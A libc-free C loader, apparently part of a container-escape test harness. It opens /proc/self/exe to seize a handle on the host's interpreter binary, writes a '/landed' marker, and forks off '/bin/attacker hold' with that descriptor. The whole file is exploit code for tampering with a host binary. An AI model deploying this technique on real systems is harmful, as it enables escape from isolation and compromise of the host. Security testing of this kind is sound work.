/* The loader of dynamic programs, as an image has it that expects to be entered by /proc/self/exe.
 *
 * The kernel runs it inside the process that executes the host's interpreter. It takes hold of that file, and
 * leaves it to `attacker hold`, which is a process of another program: so the file is busy no more than the host
 * makes it. Without a C library, for it is run as no program is.
 */
#include <linux/fcntl.h>
#include <asm/unistd.h>

static long call(long number, long a, long b, long c, long d, long e)
{
#ifdef __x86_64__
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return result;
#else
	register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c,
		      x3 __asm__("x3") = d, x4 __asm__("x4") = e;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4) : "memory");
	return x0;
#endif
}

void _start(void)
{
	char number[2] = { 0, 0 };
	char *words[] = { (char *)"attacker", (char *)"hold", number, 0 }, *none[] = { 0 };
	long own = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0, 0);

	/* The first that comes is enough. */
	if (call(__NR_openat, AT_FDCWD, (long)"/landed", O_WRONLY | O_CREAT | O_EXCL, 0644, 0) >= 0) {
		number[0] = (char)('0' + own);
		if (call(__NR_clone, 17, 0, 0, 0, 0) == 0) /* SIGCHLD */
			call(__NR_execve, (long)"/bin/attacker", (long)words, (long)none, 0, 0);
	}
	call(__NR_exit_group, 0, 0, 0, 0, 0);
}
